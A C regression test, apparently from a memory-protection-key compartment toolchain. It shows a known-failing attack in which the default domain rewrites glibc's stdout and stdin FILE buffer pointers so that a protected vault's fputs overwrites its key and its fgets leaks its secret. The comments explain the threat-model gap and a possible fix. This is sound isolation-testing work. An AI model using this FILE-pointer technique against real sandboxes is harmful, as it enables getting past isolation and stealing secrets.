// Data-only attack through libc's global state (attacker model A: key-0
// loads and stores only). Shared code called from a compartment runs with
// the compartment's rights (by design), and glibc's stdio keeps each
// stream's buffer pointers in its FILE, key-0 memory (stdout's is in
// libc's .data). The default domain points stdout's write pointer and the
// ends of its buffer at the vault's key, the vault logs a line with
// fputs(..., stdout), and libc copies the line over the key with the
// vault's rights: a write where the attacker chose, with no code reuse and
// no race. Any stream a compartment uses (stdout, stderr, a FILE on the
// shared heap) will do. The read side is a disclosure: stdin's read
// pointers aimed at the vault's secret make the vault's fgets into its
// caller's buffer copy the secret out. The threat model names
// libc's trust in the thread control block ("errno and the thread
// pointer", attacks-libc-thread-self.c) and its TLS contents, not its
// global state; closing the TCB alone would not stop this one. Found in
// the second attacker-A review; succeeds natively and in the 6.1 guest.
// Fix (not done): libc code that follows key-0 pointers must not run with
// a compartment's rights, e.g. run a compartment's stdio calls (and other
// libc calls on process-wide state) in the default domain through the
// runtime with only the compartment's own bytes copied across, or give
// compartments a libc whose state is on their own pages.
// XFAIL: *
// REQUIRES: pku
// RUN: %bulkhead_clang -fpkey-compartments -O2 %s -o %t
// RUN: %run %t | FileCheck %s
// CHECK: attacks-review2-stdio: ok
#include "Inputs/check.h"

#define SECRET 0x5ec7e75ec7e7L
BULKHEAD_DATA(vault) static long key[2] = {SECRET, SECRET};

/* The vault logs what it does to standard output, like any library. */
BULKHEAD_ENTRY(vault) void vault_rotate(void) { fputs("rotated\n", stdout); }
BULKHEAD_ENTRY(vault) int vault_key_intact(void) { return key[0] == SECRET && key[1] == SECRET; }
BULKHEAD_ENTRY(vault) void *vault_where(void) { return key; }

BULKHEAD_DATA(vault) static char secret[32] = "the vault's secret\n";
/* Reads a line of input for its caller. */
BULKHEAD_ENTRY(vault) void vault_read_line(char *out, int n) {
  if (!fgets(out, n, stdin))
    out[0] = 0;
}
BULKHEAD_ENTRY(vault) void *vault_secret_where(void) { return secret; }

int main(void) {
  char *target = vault_where();
  puts("attacks-review2-stdio: start");
  fflush(stdout);
  /* The attacker: stores into libc's FILE for stdout (key-0 .data). */
  char *ptr = stdout->_IO_write_ptr, *end = stdout->_IO_write_end;
  char *bend = stdout->_IO_buf_end;
  stdout->_IO_write_ptr = target;
  stdout->_IO_write_end = target + 16;
  stdout->_IO_buf_end = target + 16;
  vault_rotate();
  stdout->_IO_write_ptr = ptr;
  stdout->_IO_write_end = end;
  stdout->_IO_buf_end = bend;
  int broken = 0;
  if (!vault_key_intact()) {
    puts("attacks-review2-stdio: BROKEN: the vault's fputs wrote its log line over its key");
    broken = 1;
  }
  /* The read side: stdin's read pointers at the vault's secret. */
  char line[64] = "", *s = vault_secret_where();
  char *rptr = stdin->_IO_read_ptr, *rend = stdin->_IO_read_end;
  stdin->_IO_read_ptr = s;
  stdin->_IO_read_end = s + 19;
  vault_read_line(line, sizeof line);
  stdin->_IO_read_ptr = rptr;
  stdin->_IO_read_end = rend;
  if (strstr(line, "secret")) {
    printf("attacks-review2-stdio: BROKEN: the vault's fgets copied out: %s", line);
    broken = 1;
  }
  if (broken)
    return 1;
  puts("attacks-review2-stdio: ok");
  return 0;
}
